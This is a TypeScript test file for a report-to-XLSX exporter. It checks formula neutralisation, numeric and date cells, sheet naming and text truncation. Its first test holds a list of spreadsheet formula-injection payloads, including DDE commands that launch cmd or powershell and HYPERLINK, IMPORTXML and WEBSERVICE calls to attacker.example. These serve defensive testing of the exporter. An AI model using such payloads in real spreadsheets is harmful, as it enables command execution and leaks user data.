import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { ResolvedBlock } from '#lib/base/model/resolved-blocks.ts';
import { sampleReport, words } from '../../../tests/support/sample-report.ts';
import { xlsxOf } from './xlsx.ts';

/** What spreadsheets and their users have been attacked with. */
const payloads = [
	'=',
	'+',
	'-',
	'@',
	'\t=',
	'\r=',
	'\n=',
	' =',
	'\u00a0=',
	'＝',
	'＋',
	'%0A=',
	'"=',
	"'="
].flatMap((start) =>
	[
		"cmd|' /C calc'!A0",
		'HYPERLINK("http://attacker.example?x="&A1,"Click")',
		'1+1',
		'SUM(A1:A9)*cmd|"/C powershell"!A0',
		'IMPORTXML("http://attacker.example","//a")',
		'WEBSERVICE("http://attacker.example")',
		"DDE('cmd';'/C calc';'x')",
		"rundll32|'URL.dll,OpenURL calc.exe'!A",
		'</t></is></c><c r="Z9"><f>1+1</f></c>',
		']]><f>1+1</f><![CDATA[',
		'_x003d_1+1',
		'&#61;1+1',
		'@SUM(1;1)',
		"MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!A",
		'A1:XFD1048576'
	].map((rest) => start + rest)
);

const files = (bytes: Uint8Array): Record<string, string> =>
	Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, file]) => [name, strFromU8(file)]));
const sheetsOf = (all: Record<string, string>): string[] =>
	Object.entries(all).flatMap(([name, xml]) => (/^xl\/worksheets\/sheet\d+\.xml$/.test(name) ? [xml] : []));

/** Every text of a workbook as a program reads it. */
function textsOf(all: Record<string, string>): string[] {
	const xml = (all['xl/sharedStrings.xml'] ?? '') + sheetsOf(all).join('');
	return [...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map(([, text = '']) =>
		text
			.replaceAll('&lt;', '<')
			.replaceAll('&gt;', '>')
			.replaceAll('&quot;', '"')
			.replaceAll(/&(apos|#39);/g, "'")
			.replaceAll('&amp;', '&')
			.replaceAll(/_x([0-9a-f]{4})_/gi, (_, code: string) => String.fromCharCode(parseInt(code, 16)))
	);
}

const table = (rows: [string, number][]): ResolvedBlock => ({
	kind: 'table',
	caption: words('Figures'),
	rows: [
		[
			{ words: words('Subject'), header: true },
			{ words: words('Median'), header: true }
		],
		...rows.map(([name, value]) => [
			{ words: words(name), header: true },
			{ words: words(String(value)), value }
		])
	]
});
const sheet = (rows: Parameters<typeof xlsxOf>[1][number]['rows'], title = 'Results') => ({
	id: 'results',
	title: words(title),
	columns: [words('Subject'), words('Figure')],
	rows
});

describe('a report as a workbook', () => {
	it(`holds none of ${payloads.length} payloads as a formula, and every one as it was typed`, async () => {
		const report = sampleReport(payloads.map((text, at) => table([[text, at]])));
		const all = files(await xlsxOf(report, [sheet(payloads.map((text) => [words(text), words(text)]))]));
		for (const xml of sheetsOf(all)) expect(xml).not.toMatch(/<f[ >/]/);
		expect(Object.keys(all).filter((name) => /vba|external|connection|hyperlink/i.test(name))).toEqual([]);
		const texts = new Set(textsOf(all));
		expect(payloads.filter((text) => !texts.has(text) && !texts.has(text.replaceAll('\r', '')))).toEqual([]);
	});

	it('writes numbers and moments as what they are, and freezes the heads of tidy sheets', async () => {
		const moment = Date.UTC(2017, 2, 7, 9, 30);
		const all = files(
			await xlsxOf(sampleReport([table([['Sady', 1.5]])]), [
				sheet([
					[words('Sady'), -0.25],
					[null, { moment }]
				])
			])
		);
		const [, tidy = '', raw = ''] = sheetsOf(all);
		expect(tidy).toMatch(/<v>-0.25<\/v>/);
		// Days since 1900 as spreadsheets count them.
		expect(tidy).toContain(`<v>${25_569 + moment / 86_400_000}</v>`);
		expect(tidy).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
		expect(raw).toMatch(/<v>1.5<\/v>/);
	});

	it('names its sheets so that programs take them, each once', async () => {
		const titles = ['a/b:c*[d]?', 'x'.repeat(60), 'X'.repeat(60), "'quoted'", '', '🍏'.repeat(40)];
		const all = files(
			await xlsxOf(
				sampleReport([]),
				titles.map((title) => sheet([[null, 1]], title))
			)
		);
		const names = [...(all['xl/workbook.xml'] ?? '').matchAll(/<sheet [^>]*name="([^"]*)"/g)].map(
			([, name = '']) => name
		);
		expect(names).toHaveLength(titles.length + 1);
		expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
		for (const name of names) {
			expect(name.length).toBeLessThanOrEqual(31);
			expect(name).not.toMatch(/[[\]:*?/\\]|^'|'$|^$/);
			expect(name.isWellFormed()).toBe(true);
		}
	});

	it('prints each sheet as wide as a page, and says how high rows of long texts are', async () => {
		const all = files(
			await xlsxOf(sampleReport([]), [
				sheet([
					[words('Short'), 1],
					[words('Ten words. '.repeat(30)), 2]
				])
			])
		);
		const sheets = sheetsOf(all);
		expect(sheets.length).toBeGreaterThan(1);
		for (const xml of sheets) {
			expect(xml).toMatch(
				/<worksheet[^>]*><sheetPr><pageSetUpPr fitToPage="1"\/>.*<\/sheetData>.*fitToWidth="1" fitToHeight="0"/s
			);
		}
		const heights = [...(sheets[1] ?? '').matchAll(/<row r="(\d)"[^>]*?(?: ht="(\d+)")?[^>]*>/g)];
		const heightOf = (row: string) => Number(heights.find(([, at]) => at === row)?.[2] ?? 0);
		expect([heightOf('2'), heightOf('3') >= 75]).toEqual([0, true]);
	});

	it('holds texts that no cell or no XML can hold, cut and cleaned', async () => {
		const all = files(
			await xlsxOf(sampleReport([]), [sheet([[words('a'.repeat(40_000)), words('x\u0000\ud800y')]])])
		);
		const texts = textsOf(all);
		expect(Math.max(...texts.map((text) => text.length))).toBe(32_767);
		expect(texts.some((text) => /^x.*y$/.test(text) && !text.includes('\u0000'))).toBe(true);
	});
});
